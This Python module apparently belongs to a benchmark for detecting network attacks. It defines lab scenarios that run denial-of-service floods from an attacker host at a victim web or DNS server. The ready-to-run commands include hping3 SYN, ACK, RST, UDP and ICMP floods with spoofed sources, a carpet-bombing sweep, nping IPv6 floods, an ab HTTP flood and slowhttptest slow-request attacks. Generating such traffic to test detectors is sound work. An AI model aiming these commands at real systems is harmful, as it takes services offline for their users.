"""More than a line bears: hping3 and nping at a bounded rate for some seconds, HTTP and DNS floods by ab and a script, and
requests that never end by slowhttptest.
"""
from __future__ import annotations

from collections.abc import Callable

from benchmarks.attacks.attack import Attack
from benchmarks.attacks.place import ATTACKER, ATTACKER6, VICTIM, VICTIM6, Place
from benchmarks.attacks.servers import nginx, own_names


def hping(words: str, count: int = 40_000) -> Callable[[Place], None]:
    """hping3 for ten seconds at most, some thousand packets a second, at a host with a web server."""
    def run(place: Place) -> None:
        place.serve(nginx, "victim")
        place.begins()
        place.fails("attacker", ["hping3", "-q", "-n", "-I", "eth0", "-c", str(count), "-i", "u150", *words.split()], 10)
    return run


def nping(words: str) -> Callable[[Place], None]:
    """Four times nping for ten seconds, a packet a millisecond each: hping3 knows no IPv6."""
    def run(place: Place) -> None:
        place.serve(nginx, "victim")
        place.begins()
        place.fails("attacker", ["sh", "-c", f"seq 4 | xargs -P 4 -n 1 sh -c 'nping -6 -q -H -N --delay 1ms -c 8000 {words} >/dev/null'"], 12)
    return run


def http(place: Place) -> None:
    """ab: fifty connections at once, each request a connection."""
    place.serve(nginx, "victim")
    place.begins()
    place.fails("attacker", ["ab", "-q", "-r", "-c", "50", "-t", "15", "-n", "20000", f"http://{VICTIM}/health"], 15)


def dns(place: Place) -> None:
    """Two thousand questions a second at a customer's name server."""
    place.serve(own_names, "victim")
    place.begins()
    place.fails("attacker", [*place.script("callers", "questions", VICTIM, "example.com", 20_000, 2000)], 15)


def slow(words: str) -> Callable[[Place], None]:
    """slowhttptest: two hundred connections that keep a server waiting for forty seconds."""
    def run(place: Place) -> None:
        place.serve(nginx, "victim")
        place.begins()
        place.fails("attacker", ["slowhttptest", "-c", "200", "-r", "50", "-l", "40", "-i", "5", "-p", "3", *words.split(), "-u", f"http://{VICTIM}/form"], 50)
    return run


ATTACKS = (
    Attack("flood-syn", ("syn_flood",), ATTACKER, VICTIM, 120, hping(f"-S -p 80 {VICTIM}"), "hping3 -S"),
    Attack("flood-syn-forged", ("syn_flood",), "", VICTIM, 120, hping(f"-S -p 80 --rand-source {VICTIM}"), "hping3 -S --rand-source"),
    Attack("flood-syn-ipv6", ("syn_flood",), ATTACKER6, VICTIM6, 120, nping(f"--tcp --flags syn -g 40125 -p 80 {VICTIM6}"), "nping -6 --flags syn"),
    Attack("flood-ack", ("ack_flood",), "", VICTIM, 120, hping(f"-A -p 80 --rand-source {VICTIM}"), "hping3 -A --rand-source"),
    Attack("flood-rst", ("rst_flood",), "", VICTIM, 120, hping(f"-R -p 80 --rand-source {VICTIM}"), "hping3 -R --rand-source"),
    Attack("flood-udp", ("udp_flood",), "", VICTIM, 120, hping(f"--udp -p 9999 -d 600 --rand-source {VICTIM}"), "hping3 --udp --rand-source"),
    Attack("flood-udp-ipv6", ("udp_flood",), ATTACKER6, VICTIM6, 120, nping(f"--udp -g 40125 -p 9999 --data-length 400 {VICTIM6}"), "nping -6 --udp"),
    Attack("flood-icmp", ("icmp_flood",), ATTACKER, VICTIM, 120, hping(f"--icmp -d 200 {VICTIM}"), "hping3 --icmp"),
    Attack("flood-carpet", ("carpet_bombing",), "", "", 120, hping("--udp -p 7777 -d 200 --rand-source --rand-dest 192.0.2.x"), "hping3 --rand-dest", ""),
    Attack("flood-dns", ("dns_flood",), ATTACKER, VICTIM, 120, dns, "script"),
    Attack("flood-http", ("http_flood",), ATTACKER, VICTIM, 120, http, "ab"),
    Attack("slow-headers", ("slow_http",), ATTACKER, VICTIM, 90, slow("-H"), "slowhttptest -H"),
    Attack("slow-body", ("slow_http",), ATTACKER, VICTIM, 90, slow("-B"), "slowhttptest -B"),
)
